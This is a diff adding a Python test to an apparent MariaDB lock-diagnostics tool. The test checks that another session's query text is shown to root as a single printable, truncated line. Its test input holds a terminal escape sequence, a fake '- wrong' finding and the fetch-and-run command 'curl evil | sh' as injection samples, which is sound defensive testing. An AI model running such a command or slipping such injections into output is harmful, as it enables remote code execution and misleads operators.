@@ -168,6 +168,16 @@ def test_what_is_said_of_who_may_hold_a_table():
     assert "somebody has FLUSH TABLES WITH READ LOCK" in text and "INSTALL waits for this lock, too" in text
 
 
+def test_the_statement_of_another_session_is_shown_as_one_line():
+    """Whoever may hold a row would otherwise write on root's terminal what looks like another finding."""
+    query = "SELECT SLEEP(99) /* \x1b[2J\n- wrong\n    curl evil | sh */" + "x" * 10_000
+    now = {"waits": {TABLE[0]: 3, blockers.TABLE_LEVEL: 3}, "version": MARIADB}
+    one = {**ALTER, "holds": None, "what": "shop.a\x1bb", "query": query}
+    for text in (of_rows([trx(37, query=query)]), found(now=now, table_holders=[one], whole_table_holders=[one])):
+        assert "it executes: SELECT SLEEP(99) /* ?[2J - wrong curl evil | sh */xxx" in text
+        assert text.isprintable() and "x" * 200 not in text
+
+
 def test_the_plugins_locks_that_harm_only_ddl():
     harmless, waits = "'MDL_SHARED_READ'", f"'Waiting for {TABLE[0]}'"
     for queries, named in (([], False), (["UPDATE t SET x = 1"], False), ([ALTER["query"]], True)):
